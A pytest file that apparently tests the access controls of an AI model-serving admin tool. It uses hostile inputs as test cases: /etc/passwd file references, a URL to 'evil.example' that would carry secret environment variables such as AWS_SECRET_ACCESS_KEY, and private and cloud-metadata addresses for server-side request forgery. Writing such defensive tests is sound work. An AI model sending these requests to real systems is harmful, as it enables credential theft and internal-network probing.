"""Who may have what fetched: the command line of this machine, and callers over HTTP."""

from pathlib import Path

import pytest

from aiadmin_core.errors import BadRequest, InvalidName, ModelNotFound, NotAllowed
from aiadmin_core.sources import Caller, CatalogueEntry, Progress
from aiadmin_openai.source import OpenAISource
from aiadmin_server.pull import plan
from aiadmin_server.sources.local import LocalSource
from aiadmin_server.sources.pypi import PyPISource

HTTP = Caller(over="http", identity="somebody")
SOURCES = [PyPISource(), LocalSource(), LocalSource(in_place=True), OpenAISource()]


def ignore(progress: Progress) -> None:
    pass


@pytest.mark.parametrize("reference", ["file:/etc/passwd", "link:/etc/passwd", "FILE:x.gguf", "file:///etc/passwd"])
def test_nobody_over_http_has_files_of_this_machine_read(reference: str):
    assert plan(reference, [], SOURCES).source.scheme in ("file", "link")
    with pytest.raises(NotAllowed, match="command line"):
        plan(reference, [], SOURCES, HTTP)


def test_nobody_over_http_learns_which_paths_exist(tmp_path: Path):
    (tmp_path / "there.gguf").touch()
    said = []
    for name in ("there.gguf", "not-there.gguf"):
        with pytest.raises((ModelNotFound, InvalidName)) as caught:
            plan(str(tmp_path / name), [], SOURCES, HTTP)
        said.append(str(caught.value).replace(name, "NAME"))
    assert said[0] == said[1]


def test_the_catalogue_is_the_administrators_word():
    entry = CatalogueEntry(name="m", reference="file:/models/m.gguf", digest="", size=0, summary="", license="")
    assert plan("m", [entry], SOURCES, HTTP).source.scheme == "file"


@pytest.mark.parametrize("key", ["AWS_SECRET_ACCESS_KEY", "EXAMPLE_API_KEY"])
def test_no_variable_is_read_for_a_caller_over_http(tmp_path: Path, key: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv(key, "secret")
    reference = f"http://evil.example/v1?key={key}&unchecked&confirmed#x"
    with pytest.raises(NotAllowed, match="environment variable"):
        OpenAISource().fetch_for(HTTP, reference, workdir=tmp_path, progress=ignore)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "10.0.0.1", "192.168.1.1", "169.254.169.254", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0",
     "[fe80::1]", "[fd00::1]", "2130706433", "100.64.0.1"],
)  # fmt: skip
def test_no_private_address_is_asked_for_a_caller_over_http(tmp_path: Path, host: str):
    reference = f"http://{host}:1/v1?unchecked#x"
    with pytest.raises(NotAllowed, match="not public"):
        OpenAISource().fetch_for(HTTP, reference, workdir=tmp_path, progress=ignore)
    allowed = Caller(over="http", private_addresses=True)
    OpenAISource().fetch_for(allowed, reference, workdir=tmp_path, progress=ignore)
    OpenAISource().fetch(reference, workdir=tmp_path, progress=ignore)


@pytest.mark.parametrize("key", ["AWS_SECRET_ACCESS_KEY", "DATABASE_PASSWORD", "HOME", "SSH_PRIVATE_KEY"])
def test_the_command_line_sends_no_other_secret_by_mistake(tmp_path: Path, key: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv(key, "secret")
    with pytest.raises(BadRequest, match="does not look like the API key"):
        OpenAISource().fetch(f"http://h/v1?key={key}&unchecked#x", workdir=tmp_path, progress=ignore)
    OpenAISource().fetch(f"http://h/v1?key={key}&unchecked&confirmed#x", workdir=tmp_path, progress=ignore)


@pytest.mark.parametrize("key", ["OPENAI_API_KEY", "KEY", "EXAMPLE_KEY", "HF_TOKEN", "API_KEY_2"])
def test_what_looks_like_an_api_key_needs_no_word(tmp_path: Path, key: str):
    OpenAISource().fetch(f"http://h/v1?key={key}&unchecked#x", workdir=tmp_path, progress=ignore)
